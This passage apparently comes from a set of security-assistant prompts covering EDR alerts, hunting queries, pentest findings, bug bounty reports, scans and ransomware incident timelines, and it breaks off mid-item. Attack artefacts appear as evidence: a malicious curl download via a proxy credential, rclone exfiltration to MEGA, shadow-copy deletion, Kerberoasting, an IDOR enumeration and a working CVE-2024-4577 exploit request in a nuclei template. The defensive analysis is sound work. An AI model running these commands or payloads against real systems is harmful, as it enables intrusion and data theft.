{"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":1749801724000,"version":"1.0"},"event":{"DetectId":"ldt:@@hex:t016d:32@@:@@digits:t016dn:11@@","ComputerName":"FIN-WS-0219","MachineDomain":"corp.local","AgentVersion":"7.14.18408.0","Severity":3,"SeverityName":"Medium","Tactic":"Execution","TacticId":"TA0002","Technique":"PowerShell","TechniqueId":"T1059.001","Objective":"Follow Through","PatternId":10118,"PatternDispositionValue":16,"PatternDispositionDescription":"Prevention, process blocked","FileName":"powershell.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0","CommandLine":"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAFMAbwByAHQALQBPAGIAagBlAGMAdAAgAEMAUABVACAALQBEAGUAcwBjAGUAbgBkAGkAbgBnACAAfAAgAFMAZQBsAGUAYwB0AC0ATwBiAGoAZQBjAHQAIAAtAEYAaQByAHMAdAAgADUAIAB8ACAARgBvAHIAbQBhAHQALQBUAGEAYgBsAGUAIAAtAEEAdQB0AG8AUwBpAHoAZQA=","SHA256String":"@@hex:t016h1:64@@","MD5String":"@@hex:t016h2:32@@","ParentImageFileName":"\\Device\\HarddiskVolume3\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe","ParentCommandLine":"\"C:\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe\" --service","ParentProcessId":"@@digits:t016ppid:12@@","ProcessId":"@@digits:t016pid:12@@","GrandparentImageFileName":"services.exe","SensorId":"@@hex:t016sensor:32@@","Cid":"@@hex:t016cid:32@@","FalconHostLink":"https://falcon.eu-1.crowdstrike.com/activity/detections/detail/@@hex:t016sensor:32@@/@@digits:t016ln:11@@"}}

The decoded command is Get-Process | Sort-Object CPU -Descending | Select-Object -First 5 | Format-Table -AutoSize, pushed by a Tanium sensor question (package "Top CPU processes", id 4412). Tanium client 7.6.1.1045.

### h25-017
Defender XDR incident 3318 (alert below from the API). I'm not sure what the curl line is doing - why would it go through our proxy with a service account? And is the mailbox evidence the original phish?

{"alertId":"da@@digits:t017al:18@@_-@@digits:t017al2:10@@","title":"Suspicious file download via proxy using LOLBin","severity":"High","status":"New","category":"CommandAndControl","detectionSource":"MicrosoftDefenderForEndpoint","mitreTechniques":["T1105","T1090"],"firstActivity":"2025-06-15T10:02:18.33Z","evidence":[
 {"entityType":"Process","fileName":"curl.exe","sha256":"@@hex:t017h1:64@@","processId":7716,"processCommandLine":"curl.exe -s -k -x [[URL_CREDENTIALS|http://svc_proxy:GraniteLake_84!@10.20.0.15:3128]] -o C:\\ProgramData\\Intel\\igfx.dat https://cdn-office-assets.top/a/igfx.dat","accountName":"lbachmann","accountDomain":"NORDWERK"},
 {"entityType":"User","accountName":"lbachmann","domainName":"NORDWERK","userPrincipalName":"[[EMAIL|lena.bachmann@nordwerk-pumpen.de]]","userSid":"S-1-5-21-1604351234-2718282818-3141592653-4417"},
 {"entityType":"Ip","ipAddress":"[[IP_ADDRESS|@@ip:t017a@@]]","countryLetterCode":"SC"},
 {"entityType":"Url","url":"https://cdn-office-assets.top/a/igfx.dat"},
 {"entityType":"Mailbox","primaryAddress":"[[EMAIL|lena.bachmann@nordwerk-pumpen.de]]","displayName":"Lena Bachmann"},
 {"entityType":"MailMessage","networkMessageId":"@@uuid:t017nm@@","sender":"[[EMAIL|lieferschein@spedition-kraemer-logistik.com]]","senderIp":"[[IP_ADDRESS|@@ip:t017b@@]]","recipient":"[[EMAIL|lena.bachmann@nordwerk-pumpen.de]]","subject":"Lieferschein 2025-0612 / Rückfrage","deliveryAction":"Delivered","urls":["https://cdn-office-assets.top/l/0612"]}
]}

The proxy [[IP_ADDRESS|10.20.0.15]] only allows authenticated service accounts; svc_proxy is used by the Citrix farm, not by workstations. Device id @@hex:t017dev:40@@.

### h25-018
I'm writing a hunting query for processes that download with curl/certutil/bitsadmin and then run what they fetched. Here's my KQL and a sample of results from the test tenant. Is the join correct, and how do I stop it matching our own software deployment?

let lolbins = dynamic(["curl.exe","certutil.exe","bitsadmin.exe"]);
DeviceProcessEvents
| where Timestamp > ago(7d) and FileName in~ (lolbins)
| where ProcessCommandLine has_any ("http://","https://","-urlcache")
| project DlTime = Timestamp, DeviceId, DeviceName, DlCmd = ProcessCommandLine, DlSha = SHA256
| join kind=inner (DeviceProcessEvents | where Timestamp > ago(7d) | project ExecTime = Timestamp, DeviceId, FolderPath, SHA256, ReportId) on DeviceId
| where ExecTime between (DlTime .. (DlTime + 10m)) and FolderPath has @"\ProgramData\"

DlTime                  DeviceName        DlCmd                                                                          ExecTime                FolderPath                                      SHA256                                                             ReportId
2025-06-10T08:14:02Z    lab-w11-03        curl.exe -sSfL -o C:\ProgramData\pkg\agent.msi https://repo.intranet.local/agent/4.2.0.118/agent.msi   2025-06-10T08:14:40Z    C:\ProgramData\pkg\agent.msi                    @@hex:t018h1:64@@   @@digits:t018r1:5@@
2025-06-10T08:15:11Z    lab-w11-04        certutil.exe -urlcache -f http://localhost:8080/tools/sysmon64.exe C:\ProgramData\s.exe                2025-06-10T08:15:13Z    C:\ProgramData\s.exe                            @@hex:t018h2:64@@   @@digits:t018r2:5@@

DeviceIds: @@hex:t018d1:40@@ and @@hex:t018d2:40@@. The lab machines pull from http://127.0.0.1:8080 via a port-forward in the second test, which is why localhost shows up. Agent build 10.8760.22621.1 on both.

### h25-019
Can you tighten the wording of this finding for the final report and suggest a CVSS 4.0 vector? Evidence section stays as is.

FINDING H-02 - Cleartext credentials recoverable from file shares and GPP (CWE-522, ATT&CK T1552.001 / T1552.006)
Affected: corp.halvorsen.local, FS01, SYSVOL

Evidence
1. \\corp.halvorsen.local\SYSVOL\...\Preferences\Groups\Groups.xml contains a cpassword for the local account "svc_localadm". Decrypted with the AES key Microsoft published in 2012: [[SECRET|LocalAdm!n2019]]
2. \\FS01\IT$\deploy\HRIS\web.config:
   <add name="HrisDb" connectionString="Server=[[IP_ADDRESS|10.30.8.21]];Database=HRIS;User Id=hris_app;Password=[[SECRET|Hr1s-Conn#2023]];Encrypt=False" />
3. \\FS01\IT$\scripts\backup\.env:
   AWS_ACCESS_KEY_ID=[[SECRET|@@akia:t019k1@@]]
   AWS_SECRET_ACCESS_KEY=[[SECRET|@@awssecret:t019k2@@]]
   CACHE_URL=[[URL_CREDENTIALS|redis://:Q7wmR2xTe9Lc@10.30.9.4:6379/0]]
4. Kerberoast of svc_sql: $krb5tgs$23$*svc_sql$CORP.HALVORSEN.LOCAL$MSSQLSvc/sql02.corp.halvorsen.local:1433*$@@hex:t019tgs1:32@@$@@hex:t019tgs2:96@@... cracked in 14 minutes with hashcat -m 13100 to [[SECRET|Autumn2024!sql]]
5. secretsdump on FS01 (local SAM, excerpt):
   Administrator:500:aad3b435b51404eeaad3b435b51404ee:@@hex:t019nt1:32@@:::
   svc_localadm:1001:aad3b435b51404eeaad3b435b51404ee:@@hex:t019nt2:32@@:::

All credentials were reported to the client's IT lead (Sigrid Aune) on 2025-06-04 and rotated on 2025-06-05; they are reproduced here with the client's consent for the retest appendix.

### h25-020
Please rewrite this medium finding so that it reads less like scanner output, and check the CVSS vector matches the text.

FINDING M-04 - Legacy TLS protocols and weak cipher suites enabled (CWE-326, CWE-327)
Affected: portal-stg.halvorsen-group.no:443, sso-stg.halvorsen-group.no:443 (hosts in scope per SoW v1.3; addresses omitted in this report at the client's request)
CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:N/A:N (3.7)

testssl.sh 3.2rc3 output (excerpt):
 SSLv2      not offered (OK)
 SSLv3      not offered (OK)
 TLS 1      offered (deprecated)
 TLS 1.1    offered (deprecated)
 TLS 1.2    offered (OK)
 TLS 1.3    not offered and downgraded to a weaker protocol
 Cipher order
 TLSv1:     ECDHE-RSA-AES128-SHA AES128-SHA DES-CBC3-SHA
 TLSv1.2:   ECDHE-RSA-AES128-GCM-SHA256 ECDHE-RSA-AES256-GCM-SHA384 AES128-SHA256
 SWEET32 (CVE-2016-2183, CVE-2016-6329)    VULNERABLE, uses 64 bit block ciphers
 BEAST (CVE-2011-3389)                     TLS1: ECDHE-RSA-AES128-SHA AES128-SHA DES-CBC3-SHA -- VULNERABLE
 Certificate: Serial 0x@@hex:t020ser:32@@, SHA256 fingerprint @@uhex:t020fp:64@@
 Signature Algorithm: SHA256 with RSA, 2048 bits, valid 2025-01-14 -> 2026-02-14 (>= 60 days)
 OCSP URI http://ocsp.digicert.com, OCSP stapling not offered, HSTS max-age=31536000

Recommendation: disable TLS 1.0/1.1 and 3DES on the F5 virtual servers (profile clientssl-stg, cipher string "ECDHE+AESGCM:!3DES:!RC4"), enable TLS 1.3 (BIG-IP 17.1.1.3 supports it). References: BSI TR-02102-2, NIST SP 800-52r2, Mozilla "intermediate" profile 5.7.

### h25-021
I'm submitting this to a bug bounty programme. Could you make the impact section stronger without exaggerating, and check that my CVSS is right? (I'll redact before sending - pasting the raw version here.)

Title: IDOR in /api/v2/members/{id}/profile exposes other members' contact data and date of birth
Researcher account: [[EMAIL|hx.tester.4417@protonmail.com]] (member id 881203)

Steps
1. Log in, capture the profile request in Burp:
GET /api/v2/members/881203/profile HTTP/2
Host: api.tidewell.io
Authorization: Bearer [[JWT|@@jwt:t021j:RS256@@]]
Cookie: tw_sid=[[SECRET|@@urlsafe:t021sid:43@@]]; _ga=GA1.2.1180471992.1749031377
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0
2. Change the id to 881204 and resend. Response (200 OK):
{"id":881204,"display_name":"Evie Marchetti","email":"[[EMAIL|evie.marchetti82@gmail.com]]","phone":"[[PHONE|@@phone:t021p:GB:m:intl@@]]","date_of_birth":"[[DATE_OF_BIRTH|1982-11-07]]","address":{"line1":"14 Rookery Lane","city":"Ipswich","postcode":"IP4 2QT"},"plan":"family","created_at":"2023-02-19T10:44:12Z"}
3. Ids are sequential; 200 requests returned 197 valid profiles (stopped there).

CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N = 6.5
Impact: any authenticated member can enumerate ~880k profiles with e-mail, phone and DOB.

### h25-022
Triage question from our programme inbox: the researcher says this is a "high" open redirect. I think it's low. What do you think, and what should we reply?

Report #2541187 - Open redirect in /logout?next=
Request:
GET /logout?next=%2F%2Fevil.example%2Flanding HTTP/2
Host: app.tidewell.io
Cookie: tw_sid=[REDACTED]; tw_csrf=@@hex:t022csrf:32@@; _ga=GA1.2.1803557021.1749022841; _gid=GA1.2.771042218.1749022841
Sec-Fetch-Site: same-origin
Referer: https://app.tidewell.io/settings/security

Response:
HTTP/2 302
location: //evil.example/landing
set-cookie: tw_sid=; Max-Age=0; Path=/; Secure; HttpOnly; SameSite=Lax
x-request-id: @@uuid:t022rid@@
cf-ray: @@hex:t022ray:16@@-AMS
server: cloudflare

Researcher's claimed impact: "phishing of credentials via trusted domain", CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:H/A:N (9.3). Our policy (section 4.2) rates open redirects without a token leak as Low (CVSS 3.1 around 4.7, CWE-601), with a bounty of 150 EUR. No OAuth flow uses /logout, and the redirect does not carry any code or token. evil.example is the researcher's placeholder domain (RFC 2606).

### h25-023
External perimeter scan for the quarterly report. Can you summarise what's exposed and rank it? Raw output below (second host was scanned from the jump box).

# Nmap 7.95 scan initiated Mon Jun 16 07:02:11 2025 as: nmap -sV -sC -Pn --open -p 21,22,25,161,443,3389,8443 -oN q2-ext.txt [[IP_ADDRESS|@@ip:t023a@@]] [[IP_ADDRESS|@@ip:t023b@@]]
Nmap scan report for vpn.kestrel-freight.com ([[IP_ADDRESS|@@ip:t023a@@]])
Host is up (0.021s latency).
PORT     STATE SERVICE  VERSION
22/tcp   open  ssh      OpenSSH 8.2p1 Ubuntu 4ubuntu0.11 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   3072 @@hex:t023f1:2@@:@@hex:t023f2:2@@:0e:91:7c:44:a8:13:6b:5d:ee:20:c3:19:d7:8a:4f:02 (RSA)
|_  256 SHA256:@@alnum:t023f3:43@@ (ED25519)
443/tcp  open  ssl/http nginx 1.18.0
|_http-title: GlobalProtect Portal
| ssl-cert: Subject: commonName=vpn.kestrel-freight.com
| Not valid before: 2025-03-02T00:00:00
|_Not valid after:  2026-03-01T23:59:59
161/udp  open  snmp     SNMPv1 server; net-snmp SNMPv3 server (public)
| snmp-brute:
|_  [[SECRET|kfr-n0c-RO]] - Valid credentials
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Nmap scan report for [[IP_ADDRESS|@@ip:t023b@@]]
Host is up (0.034s latency).
PORT     STATE SERVICE       VERSION
21/tcp   open  ftp           vsftpd 3.0.3
| ftp-anon: Anonymous FTP login allowed (FTP code 230)
|_-rw-r--r--    1 0        0          41922 May 30 11:04 export_2025-05.csv
3389/tcp open  ms-wbt-server Microsoft Terminal Services
| rdp-ntlm-info:
|   Target_Name: KFR
|   DNS_Computer_Name: kfr-rds01.kfr.local
|_  Product_Version: 10.0.17763
| ssl-cert: Subject: commonName=kfr-rds01.kfr.local
|_SHA-1: @@hex:t023sha:40@@
# Nmap done at Mon Jun 16 07:09:48 2025 -- 2 IP addresses (2 hosts up) scanned in 457.31 seconds

From the jump box ([[IP_ADDRESS|172.16.40.9]]) the same FTP host answers on its inside address [[IP_ADDRESS|172.16.40.31]].

### h25-024
I ran nmap against my own dev VM to see what's listening before I put it on the office Wi-Fi. Which of these should I close or bind to localhost only?

# Nmap 7.95 scan initiated Tue Jun 17 18:22:40 2025 as: nmap -sV -sC -p- -T4 -oN dev.txt localhost
Nmap scan report for localhost (127.0.0.1)
Host is up (0.000070s latency).
Other addresses for localhost (not scanned): ::1
Not shown: 65527 closed tcp ports (reset)
PORT      STATE SERVICE    VERSION
22/tcp    open  ssh        OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   256 @@hex:t024f1:2@@:@@hex:t024f2:2@@:9a:3e:71:02:cc:58:e4:1d:77:b0:4f:23:86:5a:c1:0d (ECDSA)
|_  256 SHA256:@@alnum:t024f3:43@@ (ED25519)
5432/tcp  open  postgresql PostgreSQL DB 16.3 - 16.4
| ssl-cert: Subject: commonName=localhost
| Not valid before: 2025-01-09T12:11:04
|_Not valid after:  2035-01-07T12:11:04
6379/tcp  open  redis      Redis key-value store 7.2.4
8080/tcp  open  http       Uvicorn
|_http-title: Site doesn't have a title (application/json).
9200/tcp  open  http       Elasticsearch REST API 8.13.4 (name: dev-es; cluster: docker-cluster; Lucene 9.10.0)
11434/tcp open  http       Golang net/http server
|_http-title: Site doesn't have a title (text/plain; charset=utf-8).
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel
# Nmap done at Tue Jun 17 18:24:02 2025 -- 1 IP address (1 host up) scanned in 82.14 seconds

`ss -tlnp` shows 0.0.0.0:6379, 0.0.0.0:9200, 0.0.0.0:11434 and 127.0.0.1:5432 (the postgres listener on 5432 is also on [::]:5432). Docker compose file publishes "6379:6379" and "9200:9200"; the 11434 one is Ollama 0.1.48.

### h25-025
Bug bounty recon on a wildcard scope (*.lindqvist-media.se). masscan found a few hosts and nuclei flagged three. Are these reportable, and which is most severe? I have not used any of the credentials.

masscan 1.3.2 -p80,443,8080,9200 --rate 5000 (list output)
open tcp 443 [[IP_ADDRESS|@@ip:t025a@@]] 1750151021
open tcp 8080 [[IP_ADDRESS|@@ip:t025b@@]] 1750151022
open tcp 9200 [[IP_ADDRESS|@@ip:t025c@@]] 1750151022
open tcp 80 [[IP_ADDRESS|@@ip:t025a@@]] 1750151024

nuclei v3.2.9 -l live.txt -severity medium,high,critical
[git-config] [http] [medium] https://[[IP_ADDRESS|@@ip:t025a@@]]/.git/config ["[[URL_CREDENTIALS|https://deploy-bot:@@ghp:t025g@@@github.com/lindqvist-media/cms-theme.git]]"]
[exposed-env-file] [http] [high] http://[[IP_ADDRESS|@@ip:t025b@@]]:8080/.env ["STRIPE_SECRET_KEY=[[SECRET|@@stripe:t025s@@]]","MAIL_PASSWORD=[[SECRET|Sm7p-Lqv-2024]]","APP_DEBUG=true"]
[springboot-env-actuator] [http] [high] http://[[IP_ADDRESS|@@ip:t025b@@]]:8080/actuator/env ["spring.datasource.password":"******","spring.datasource.url":"jdbc:postgresql://[[IP_ADDRESS|10.8.0.12]]:5432/cms"]
[elasticsearch-unauth] [http] [high] http://[[IP_ADDRESS|@@ip:t025c@@]]:9200/_cat/indices ["subscribers-2025.06 yellow 4.1gb"]

The actuator masks the datasource password but shows the internal DB host.

### h25-026
I wrote my first nuclei template for the PHP-CGI argument injection. It matches on my local test container but I'm not sure the matchers are strict enough. Can you review it?

id: CVE-2024-4577-local-check
info:
  name: PHP-CGI Argument Injection (Windows, soft hyphen)
  author: ops-team
  severity: critical
  reference:
    - https://nvd.nist.gov/vuln/detail/CVE-2024-4577
  classification:
    cvss-metrics: CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H
    cvss-score: 9.8
    cve-id: CVE-2024-4577
    cwe-id: CWE-78
  metadata:
    max-request: 1
    verified: false
  tags: cve,cve2024,php,cgi,rce
http:
  - raw:
      - |
        POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1
        Host: {{Hostname}}
        Content-Type: application/x-www-form-urlencoded

        <?php echo md5("{{randstr}}"); ?>
    matchers-condition: and
    matchers:
      - type: word
        part: body
        words:
          - '{{md5(randstr)}}'
      - type: status
        status:
          - 200

Run:
$ nuclei -t cve-2024-4577-local.yaml -u http://127.0.0.1:8080 -debug-req
[INF] Current nuclei version: v3.2.9 (latest)
[INF] Current nuclei-templates version: v9.9.0 (latest)
[INF] Templates loaded for current scan: 1
[INF] Executing 1 signed templates from ops-team
[CVE-2024-4577-local-check] [http] [critical] http://127.0.0.1:8080/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
[INF] Scan completed in 412.33ms. 1 matches found.

The container is php:8.1.28-apache with a deliberately vulnerable php-cgi from XAMPP 8.2.12; randstr in the debug request was 2hT8gQpqVtWl0y7cMvB1rZkD9sA and the body returned @@hex:t026md5:32@@.

### h25-027
Pentest of a customer portal, authenticated section. Below is the login exchange from Burp (staging behind basic auth). My finding draft says "session fixation" because the cookie doesn't change after login - am I right, or is it fine because the JWT is what matters?

POST /api/auth/login HTTP/2
Host: stg.quaylane.co.uk
Authorization: Basic [[SECRET|cWxzdGFnaW5nOkZlcnJ5YnJpZGdlLTc3]]
Cookie: __Host-ql_sess=[[SECRET|@@urlsafe:t027s:32@@]]; _ga=GA1.1.1590234118.1749108530; ql_csrf=@@hex:t027csrf:40@@
Content-Type: application/json
X-Forwarded-For: [[IP_ADDRESS|@@ip:t027a@@]]
Content-Length: 71

{"email":"[[EMAIL|harriet.osei@quaylane.co.uk]]","password":"[[SECRET|Marigold-Ferry-0417]]","remember":true}

HTTP/2 200 OK
Set-Cookie: __Host-ql_sess=[[SECRET|@@urlsafe:t027s:32@@]]; Path=/; Secure; HttpOnly; SameSite=Lax
Content-Type: application/json; charset=utf-8
X-Request-Id: @@uuid:t027rid@@

{"access_token":"[[JWT|@@jwt:t027j:HS256@@]]","refresh_token":"[[SECRET|@@urlsafe:t027r:64@@]]","expires_in":900,"token_type":"Bearer","user":{"id":"usr_@@alnum:t027uid:14@@","role":"claims_handler"}}

The account is the test account the client created for us (Harriet is their QA lead).

### h25-028
CORS question. Our API returns these headers to a cross-origin request from a partner site. Is allowing credentials here dangerous given the origin reflection? Tokens are redacted.

OPTIONS /v1/policies/search HTTP/2
Host: api.quaylane.co.uk
Origin: https://partners.brokerhub.co.uk
Access-Control-Request-Method: POST
Access-Control-Request-Headers: authorization,content-type,x-request-id

HTTP/2 204
access-control-allow-origin: https://partners.brokerhub.co.uk
access-control-allow-credentials: true
access-control-allow-methods: GET,POST,OPTIONS
access-control-allow-headers: authorization,content-type,x-request-id
access-control-max-age: 600
vary: Origin

POST /v1/policies/search HTTP/2
Host: api.quaylane.co.uk
Origin: https://partners.brokerhub.co.uk
Authorization: Bearer <redacted>
Cookie: __Host-ql_sess=[REDACTED]; _ga=GA1.1.1590234118.1749108530; _gid=GA1.1.620117733.1749108530; ql_csrf=@@hex:t028csrf:40@@
X-Request-Id: @@uuid:t028rid@@
If-None-Match: W/"@@hex:t028etag:32@@"

HTTP/2 200
content-security-policy: default-src 'self'; frame-ancestors 'none'; script-src 'self' 'sha256-@@b64:t028csp:32@@'
strict-transport-security: max-age=63072000; includeSubDomains; preload
x-amz-cf-id: @@urlsafe:t028cf:56@@
etag: W/"@@hex:t028etag2:32@@"

The origin check is a regex: ^https://([a-z0-9-]+\.)*brokerhub\.co\.uk$ ; a tester noted it would also accept https://brokerhub.co.uk.attacker.example if the anchor were missing, but it isn't.

### h25-029
Nessus export (CSV, filtered to Critical/High and to the "credentials" family) for the plant network. Can you group these into remediation tickets per owner? Owner mapping: 10.60.x = OT team, 10.61.x = facilities.

Plugin ID,CVE,CVSS v3.0 Base Score,Risk,Host,Protocol,Port,Name,Plugin Output
41028,CVE-1999-0517,7.5,High,[[IP_ADDRESS|10.60.4.21]],udp,161,SNMP Agent Default Community Name (public),"The remote SNMP server replies to the following default community string : public"
10264,CVE-1999-0186,7.5,High,[[IP_ADDRESS|10.60.4.22]],udp,161,SNMP Agent Default Community Names,"The remote SNMP server replies to the following default community strings : public, private"
34970,,9.8,Critical,[[IP_ADDRESS|10.61.0.8]],tcp,8080,Apache Tomcat Manager Common Administrative Credentials,"It was possible to log in with the following credentials : tomcat / s3cret via http://[[IP_ADDRESS|10.61.0.8]]:8080/manager/html"
11149,CVE-1999-0508,9.8,Critical,[[IP_ADDRESS|10.61.0.14]],tcp,23,Telnet Server Default Credentials (admin/admin),"Login as admin/admin succeeded; banner 'Siemens SCALANCE W700'"
1001877,,8.1,High,[[IP_ADDRESS|10.60.7.3]],tcp,22,Cleartext Password in Configuration File (custom audit),"/etc/fetchmailrc (mode 0644): poll mail.kestrel-plant.local proto IMAP user ""reports"" password ""[[SECRET|Mrt-Fetch-2291]]"" ssl"
1001878,,8.1,High,[[IP_ADDRESS|10.60.7.3]],tcp,22,World-readable SSH private key,"/home/scada/.ssh/id_rsa (mode 0644), fingerprint SHA256:@@alnum:t029fp:43@@"

Scan: "Plant Q2 credentialed", policy id 44, scanner nessus-ot-01 (Nessus 10.7.4), started 2025-06-11 22:00, 312 hosts, 14 h 06 min.

### h25-030
Qualys export for the Linux web tier (I removed the IP column because the CMDB is keyed on host name). Which of these can wait for the monthly patch window and which can't?

"DNS","NetBIOS","OS","QID","Title","Severity","CVE ID","CVSS3.1 Base","Port","First Detected","Last Detected","Times Detected","Results"
"web-a01.prod.kestrel.internal","WEB-A01","Ubuntu 22.04.4 LTS","38928","OpenSSH Signal Handler Race Condition (regreSSHion)","5","CVE-2024-6387","8.1","22","06/02/2025 03:11:48","06/16/2025 03:09:02","3","SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"
"web-a02.prod.kestrel.internal","WEB-A02","Ubuntu 22.04.4 LTS","38928","OpenSSH Signal Handler Race Condition (regreSSHion)","5","CVE-2024-6387","8.1","22","06/02/2025 03:12:20","06/16/2025 03:09:40","3","SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"
"web-a01.prod.kestrel.internal","WEB-A01","Ubuntu 22.04.4 LTS","6007412","Ubuntu Security Notification for Linux Kernel (USN-6818-1)","4","CVE-2024-26925,CVE-2024-26643","7.8","","05/19/2025 02:58:17","06/16/2025 03:09:02","5","linux-image-5.15.0-105-generic 5.15.0-105.115 (fixed in 5.15.0-112.122)"
"web-b01.prod.kestrel.internal","WEB-B01","Rocky Linux 9.3","376584","nginx HTTP/3 QUIC Vulnerabilities","3","CVE-2024-32760,CVE-2024-31079","6.5","443","06/09/2025 04:01:55","06/16/2025 04:02:13","2","nginx/1.24.0 (fixed in 1.26.1)"
"web-b01.prod.kestrel.internal","WEB-B01","Rocky Linux 9.3","11827","HTTP Security Header Not Detected","2","","5.3","443","04/07/2025 04:00:41","06/16/2025 04:02:13","11","X-Content-Type-Options missing"

Asset tags: PCI-CDE (web-b01 only), Internet-facing (all). Scanner appliance qvsa-eu-02 (10.0.12-1), option profile "Authenticated - Linux v3", report template id 4471. Our SLA: severity 5 in 7 days, 4 in 30, 3 in 90.

### h25-031
Here's my working timeline for the FS01 intrusion (merged from EVTX, Sysmon, MFT and the rclone config we recovered). Can you spot gaps, and tell me whether the exfil volume is consistent with the firewall bytes (38.4 GB out on 443 to the MEGA range)?

timestamp_utc,source,host,event,details
2025-06-07T00:58:31Z,Security 4625,RDGW01,failed logon,"TargetUserName=svc_backup IpAddress=[[IP_ADDRESS|@@ip:t031a@@]] FailureReason=%%2313 (x214 in 11 min)"
2025-06-07T01:12:44Z,Security 4624,RDGW01,logon type 10,"TargetUserName=svc_backup IpAddress=[[IP_ADDRESS|@@ip:t031a@@]] LogonId=0x8A1F3C2"
2025-06-07T01:13:09Z,TerminalServices 1149,FS01,RDP auth,"User: svc_backup Domain: CORP Source Network Address: [[IP_ADDRESS|10.30.1.5]]"
2025-06-07T01:15:02Z,Sysmon 1,FS01,process,"net.exe use \\[[IP_ADDRESS|10.30.4.19]]\c$ /user:CORP\svc_backup [[SECRET|Bkp#Vault-2291]]"
2025-06-07T01:22:47Z,MFT,FS01,file created,"C:\ProgramData\rc\rclone.exe (SHA1 @@hex:t031h1:40@@, 63,412,224 bytes)"
2025-06-07T01:24:10Z,MFT,FS01,file created,"C:\ProgramData\rc\rc.conf"
2025-06-07T01:31:20Z,Sysmon 1,FS01,process,"rclone.exe copy D:\Shares\HR mega:hr-0607 --config C:\ProgramData\rc\rc.conf --transfers 8 --max-age 2y -q"
2025-06-07T01:31:24Z,Sysmon 3,FS01,network,"DestinationIp=[[IP_ADDRESS|@@ip:t031b@@]] DestinationPort=443 Image=C:\ProgramData\rc\rclone.exe"
2025-06-07T04:02:55Z,Sysmon 3,FS01,network,"DestinationIp=[[IP_ADDRESS|@@ip:t031c@@]] DestinationPort=443 (last rclone connection)"
2025-06-07T04:10:18Z,Sysmon 1,FS01,process,"vssadmin.exe delete shadows /all /quiet"
2025-06-07T04:11:02Z,MFT,FS01,file created,"D:\Shares\README_RESTORE.txt (ransom note, 2,911 bytes)"

rc.conf contents (recovered from VSS before deletion completed):
[mega]
type = mega
user = [[EMAIL|m4rk.tallis.88@onionmail.org]]
pass = [[SECRET|@@urlsafe:t031ob:43@@]]
`rclone reveal` of that pass gives [[SECRET|tallis-Exf!l-0607]].

Note: [[IP_ADDRESS|10.30.1.5]] is the RD Gateway's inside interface; svc_backup had no MFA exclusion documented but was in the "Legacy-NoMFA" group.

### h25-032
Timeline from the second host (APP03). Nothing network-related in it, just execution artefacts. Can you help me order these and say which binary ran first? I'm not sure how to read shimcache "executed" flags on Server 2019.

source,timestamp_utc,path,details
Prefetch,2025-06-07T04:05:41Z,C:\Windows\Prefetch\WEVTUTIL.EXE-@@uhex:t032pf1:8@@.pf,"run count 3, last runs 04:05:41/04:05:39/04:05:37, volume serial @@uhex:t032vs:8@@"
Prefetch,2025-06-07T04:06:12Z,C:\Windows\Prefetch\SVCHOST.EXE-@@uhex:t032pf2:8@@.pf,"run count 1, loaded C:\ProgramData\svc\svchost.exe (not System32)"
Amcache,2025-06-07T04:06:10Z,c:\programdata\svc\svchost.exe,"SHA1 @@hex:t032h1:40@@, size 1,284,096, linker 2023-11-02T08:11:47Z, ProductVersion 10.0.17763.1"
Amcache,2025-06-07T04:07:55Z,c:\programdata\svc\k.exe,"SHA1 @@hex:t032h2:40@@, size 3,481,600, no version info"
Shimcache,2025-06-06T23:51:02Z,C:\ProgramData\svc\k.exe,"entry 14, executed flag: n/a (Win10+ format)"
System 7045,2025-06-07T04:06:58Z,APP03,"Service installed: Name=WinSvcUpd ImagePath=C:\ProgramData\svc\svchost.exe -k netsvcs StartType=auto Account=LocalSystem"
Security 4688,2025-06-07T04:08:03Z,APP03,"NewProcessName=C:\ProgramData\svc\k.exe ProcessId=0x1f4c ParentProcessId=0x3a8 SubjectLogonId=0x3e7 TokenElevationType=%%1936"
Security 1102,2025-06-07T04:05:37Z,APP03,"The audit log was cleared. SubjectUserSid=S-1-5-18 SubjectLogonId=0x3e7"
UsnJrnl,2025-06-07T04:11:40Z,D:\Data\*.krkn,"USN 0x00000004A2C1F7E8 - 0x00000004A31B0A10, 118,402 FILE_CREATE|DATA_EXTEND records in 6 min"
MFT,2025-06-07T04:12:01Z,D:\Data\README_RESTORE.txt,"entry 0x0002A7F1, seq 3, $SI=$FN (no timestomping)"

Tools: Eric Zimmerman's PECmd 1.5.0.0, AmcacheParser 1.5.1.0, AppCompatCacheParser 1.5.0.0, MFTECmd 1.2.2.1. Image hash of APP03-C.E01: @@hex:t032img:64@@ (SHA256, verified).

### h25-033
I'm supporting a ransomware case as the IR firm's scribe. Please turn these negotiation notes into a clean status update for the insurer's breach coach - facts only, no speculation.

Case KR-0611 | client: Harlow & Finch Dental Partners | negotiator: [[EMAIL|s.varga@ember-ir.com]] | breach coach: [[EMAIL|lmoreau@moreau-cyberlaw.com]]
- 06-11 15:20 Actor chat portal (onion, chat id 7f3a-C29) opened. Demand: 2,400,000 USD in BTC to @@btc:t033btc@@ (public address, for tracking only). Tox ID given as fallback: @@tox:t033tox@@.
- 06-11 16:05 Actor posted proof: listing of 412 GB from \\HF-FS02\Payroll and a sample row from payroll_2024.xlsx:
